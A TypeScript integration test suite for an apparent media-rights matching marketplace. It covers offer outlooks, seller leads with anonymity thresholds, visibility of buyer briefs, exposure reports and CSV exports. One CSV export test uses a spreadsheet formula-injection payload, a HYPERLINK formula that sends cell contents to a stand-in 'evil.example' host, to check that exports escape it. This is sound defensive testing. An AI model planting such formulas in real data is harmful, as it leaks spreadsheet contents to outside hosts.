import { randomUUID } from 'node:crypto';
import {
  requestDeclined,
  requestSent,
  type ExposureReport,
  type Interest,
  type InterestOutlook,
  type OfferSketch,
  type Leads,
  type MemberId,
  type ProfileCreate,
  type ProfileId,
  type ShownBrief,
} from '@marquee/contracts';
import { eventually, type Bearer } from '@marquee/testing';
import { like } from '@marquee/testing/like';
import type { z } from 'zod';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ask, listingFact, requestFact } from '../builders.ts';
import { MatchingMarket, trader, type Trader } from '../testing/matching-market.ts';

let market: MatchingMarket;

beforeAll(async () => {
  market = await MatchingMarket.start();
});

afterAll(() => market[Symbol.asyncDispose]());

async function brief(
  as: Trader,
  theme: string,
  visibility: ProfileCreate['visibility'] = 'private',
): Promise<ProfileId> {
  const rights = { territories: ['KR', 'SG'], media: ['svod' as const] };
  const gates = { kinds: ['book' as const], rights };
  const terms = { gates, wishes: { themes: { [theme]: 5 } }, minScore: 60 };
  return (await market.brief(as, { terms, visibility })).id;
}

/** A listing that fits so many buyers' briefs. */
async function wanted(theme: string, count: number) {
  const buyers = Array.from({ length: count }, () => trader());
  for (const as of buyers) await brief(as, theme);
  const fact = listingFact({ kind: 'book', themes: [theme] });
  await market.publish(fact);
  const suggestions = market.database.collection('suggestions');
  await eventually(async () =>
    expect(await suggestions.countDocuments({ listingId: fact.listingId, fits: true })).toBe(count),
  );
  return { buyers, fact, seller: { companyId: fact.companyId, roles: ['exhibitor' as const] } };
}

const read = <Body>(route: string, as: Bearer) => market.done<Body>(`GET /api/v1/${route}`, as);

const leadsOf = async (seller: Bearer, listingId: string) => {
  const { items } = await read<{ items: Leads[] }>(`leads?listingId=${listingId}`, seller);
  expect(items).toHaveLength(1);
  return items[0];
};

async function exported(path: string, as: Bearer) {
  const { headers, body } = await market.call<string>(`GET ${path}`, as);
  const [, ...rows] = body.trimEnd().split('\r\n');
  const [, next] = /^<(.*)>; rel="next"$/.exec(headers.get('link') ?? '') ?? [];
  return { rows, next, type: headers.get('content-type') };
}

describe('what an offer would bring', () => {
  const terms = (medium: 'svod' | 'tvod' | 'fast', theme: string) => ({
    gates: { kinds: ['book' as const], rights: { territories: ['KR', 'SG'], media: [medium] } },
    wishes: { themes: { [theme]: 5 } },
    minScore: 70,
  });
  const asking = (medium: 'svod' | 'tvod' | 'fast', count: number) =>
    Promise.all(
      Array.from({ length: count }, () => market.brief(trader(), { terms: terms(medium, 'lighthouses') })),
    );
  const sketch = (given: Partial<z.input<typeof OfferSketch>> = {}) => ({
    kind: 'book',
    stage: 'completed',
    originalLanguage: 'en',
    themes: ['lighthouses'],
    seeking: ['licence'],
    avails: [{ territories: ['KR', 'SG'], media: ['svod'], from: '2026-01-01', exclusive: true }],
    ...given,
  });
  const outlook = (given?: Partial<z.input<typeof OfferSketch>>, as: Bearer = trader('exhibitor')) =>
    market.done<InterestOutlook>('POST /api/v1/interest/outlook', as, sketch(given));

  it('is told of a sketch, in fives, with the lines that would bring most', async () => {
    await Promise.all([asking('svod', 7), asking('tvod', 12), asking('fast', 4)]);
    const told = await outlook();
    expect([5, 10]).toContain(told.fitting);
    expect(told).toMatchObject({
      more: [{ territories: ['KR', 'SG'], media: ['tvod'] }],
      complete: true,
    });
    expect(told.more).toHaveLength(1);
    expect([10, 15]).toContain(told.more[0]?.companies);
  });

  it('proposes nothing that cannot be offered, nor counts whose own it is', async () => {
    const closed = [{ territories: ['KR', 'SG'], media: ['tvod' as const] }];
    expect((await outlook({ closed })).more).toEqual([]);
    expect(await outlook({ themes: ['nobody-wants-this'] })).toMatchObject({ fitting: null, more: [] });
  });

  it('is for exhibitors, and takes no company to leave out', async () => {
    const call = async (as: Bearer, body: object) =>
      (await market.call('POST /api/v1/interest/outlook', as, { body })).status;
    expect(await call(trader('buyer'), sketch())).toBe(403);
    expect(await call(trader('exhibitor'), { ...sketch(), excludedCompanies: [] })).toBe(400);
  });

  it('leaves out the company that asks', async () => {
    const both = { ...trader(), roles: ['buyer' as const, 'exhibitor' as const] };
    for (let times = 0; times < 6; times++) await market.brief(both, { terms: terms('svod', 'own-briefs') });
    expect((await outlook({ themes: ['own-briefs'] }, both)).fitting).toBeNull();
  });
});

describe('leads', () => {
  it('name who asked, and count the others roughly, from five companies up', async () => {
    const { buyers, fact, seller } = await wanted('eight', 8);
    const { listingId } = fact;
    const [asker, ...more] = buyers.slice(0, 4);
    if (!asker) throw new Error('no buyers');
    const before = (await leadsOf(seller, listingId))?.others;
    expect(before).toEqual({ fitting: like.any(Number), kept: null, passed: null });
    expect([5, 10]).toContain(before?.fitting);
    const asks = [ask({ listingId, memberId: asker.memberId, kind: 'screener' })];
    const sent = requestFact(fact, { buyerId: asker.companyId, asks });
    await market.request(requestSent, sent);
    await eventually(async () =>
      expect(await leadsOf(seller, listingId)).toMatchObject({
        askedTotal: 1,
        asked: [
          {
            companyId: asker.companyId,
            state: 'pending',
            asks: [{ memberId: asker.memberId, kind: 'screener' }],
          },
        ],
      }),
    );
    for (const { companyId: buyerId } of more)
      await market.request(requestSent, requestFact(fact, { buyerId }));
    await eventually(async () =>
      expect(await leadsOf(seller, listingId)).toMatchObject({ askedTotal: 4, others: { fitting: null } }),
    );
    expect(await read<Interest>(`interest/${listingId}`, seller)).toMatchObject({ fitting: null });
    const at = '2026-11-03T00:00:00.000Z';
    const answer = { memberId: randomUUID() as MemberId, at, reason: 'budget' as const };
    await market.request(requestDeclined, { ...sent, version: 2, state: 'declined', answer });
    await eventually(async () =>
      expect((await leadsOf(seller, listingId))?.asked).toContainEqual(
        like.objectContaining({ state: 'declined', answeredAt: at }),
      ),
    );
  });

  it('never tell who kept or passed, nor how many below five', async () => {
    const { buyers, fact, seller } = await wanted('five', 5);
    for (const [at, as] of buyers.entries()) {
      const [match] = await market.suggestions(as);
      await market.done(`POST /api/v1/suggestions/${match?.id}/keep`, as);
      const { others } = (await leadsOf(seller, fact.listingId)) ?? {};
      expect(at < 4 ? [null] : [null, 5]).toContain(others?.kept);
    }
    const leads = JSON.stringify(await read('leads', seller));
    for (const { companyId, memberId } of buyers) {
      expect(leads).not.toContain(companyId);
      expect(leads).not.toContain(memberId);
    }
  });

  it('are exported as CSV page by page, in which no title is a formula', async () => {
    const title = '=HYPERLINK("http://evil.example?"&A1,"Open")';
    const fact = listingFact();
    const seller: Bearer = { companyId: fact.companyId, roles: ['exhibitor'] };
    const buyers = [trader(), trader(), trader()];
    const [named] = buyers;
    if (named) await market.name(named.companyId, '=Blue Lantern');
    for (const [at, { companyId: buyerId }] of buyers.entries()) {
      const createdAt = `2026-11-0${at + 1}T00:00:00.000Z`;
      await market.request(requestSent, requestFact(fact, { buyerId, title, createdAt }));
    }
    const whole = await eventually(async () => {
      const file = await exported('/api/v1/leads/export', seller);
      expect(file.rows).toHaveLength(3);
      return file;
    });
    expect(whole.type).toMatch(/^text\/csv; charset=utf-8/);
    const asked = buyers
      .toReversed()
      .map(({ companyId }) =>
        like.stringContaining(companyId === named?.companyId ? `"'=Blue Lantern","${companyId}"` : companyId),
      );
    expect(whole.rows).toEqual(asked);
    for (const row of whole.rows)
      expect(row).toMatch(/^"'=HYPERLINK\(""http:\/\/evil.example\?""&A1,""Open""\)",/);
    const first = await exported(`/api/v1/leads/export?limit=2&listingId=${fact.listingId}`, seller);
    const rest = await exported(first.next ?? 'there is no more', seller);
    expect([...first.rows, ...rest.rows]).toEqual(whole.rows);
    expect(rest.next).toBeUndefined();
    const stranger: Bearer = { companyId: randomUUID(), roles: ['exhibitor'] };
    const route = `/api/v1/leads/export?listingId=${fact.listingId}`;
    expect((await exported(route, stranger)).rows).toEqual([]);
  });

  it('are of one’s own listings alone', async () => {
    const { fact } = await wanted('own', 1);
    const stranger: Bearer = { companyId: randomUUID(), roles: ['exhibitor'] };
    expect(await read(`leads?listingId=${fact.listingId}`, stranger)).toEqual({ items: [] });
    const briefs = await market.call(`GET /api/v1/interest/${fact.listingId}/briefs`, stranger);
    expect(briefs).toMatchObject({ status: 404 });
  });
});

it('briefs are shown as their owners want: named with the company, anonymous without, private not at all', async () => {
  const { fact, seller } = await wanted('shown', 1);
  const [anonymous, named] = [trader(), trader()];
  const ids = [await brief(anonymous, 'shown', 'anonymous'), await brief(named, 'shown', 'named')];
  const route = `interest/${fact.listingId}/briefs`;
  const found = await eventually(async () => {
    const { items } = await read<{ items: ShownBrief[] }>(route, seller);
    expect(items).toHaveLength(2);
    return items;
  });
  const label = { media: ['svod'], regions: ['asia', 'south-east-asia'] };
  expect(found).toEqual(
    like.arrayContaining([
      { profileId: ids[0], visibility: 'anonymous', label },
      { profileId: ids[1], visibility: 'named', companyId: named.companyId, label },
    ]),
  );
  expect(JSON.stringify(found)).not.toContain(anonymous.companyId);
  expect(JSON.stringify(found)).not.toContain(anonymous.memberId);
  const first = await read<{ items: ShownBrief[]; next: string }>(`${route}?limit=1`, seller);
  const second = await read<{ items: ShownBrief[] }>(`${route}?limit=1&cursor=${first.next}`, seller);
  expect([...first.items, ...second.items]).toEqual(found);
});

it('exposure is reported by exhibitor, those without any match among them', async () => {
  const { fact } = await wanted('exposed', 3);
  const unseen = listingFact({ kind: 'game' });
  await market.publish(unseen);
  const organiser: Bearer = { roles: ['organiser'] };
  const report = await eventually(async () => {
    const body = await read<ExposureReport>('exposure?limit=200', organiser);
    expect(body.items.map(({ companyId }) => companyId)).toContain(unseen.companyId);
    return body;
  });
  expect(report.items).toContainEqual({
    companyId: fact.companyId,
    listings: 1,
    suggestions: 3,
    asks: 0,
  });
  expect(report.items[0]).toMatchObject({ companyId: unseen.companyId, suggestions: 0 });
  await market.name(unseen.companyId, 'Blue Lantern');
  const { rows } = await exported('/api/v1/exposure/export', organiser);
  expect(rows[0]).toBe(`"Blue Lantern","${unseen.companyId}","1","0","0"`);
  expect(rows).toHaveLength(report.exhibitors);
  expect(report.unseen).toBe(1);
  expect(report.gini).toBeGreaterThan(0);
  expect(report.suggestions).toBe(report.items.reduce((sum, { suggestions }) => sum + suggestions, 0));
});

it('what is counted is counted from an index, without reading a suggestion', async () => {
  const suggestions = market.database.collection('suggestions');
  const hint = { listingId: 1, fits: 1, companyId: 1, state: 1, profileId: 1 };
  const byListing = [{ $match: { fits: true } }, { $group: { _id: '$listingId', count: { $sum: 1 } } }];
  const explained = await suggestions.aggregate(byListing, { hint }).explain('executionStats');
  expect(JSON.stringify(explained)).toContain('"totalDocsExamined":0');
});
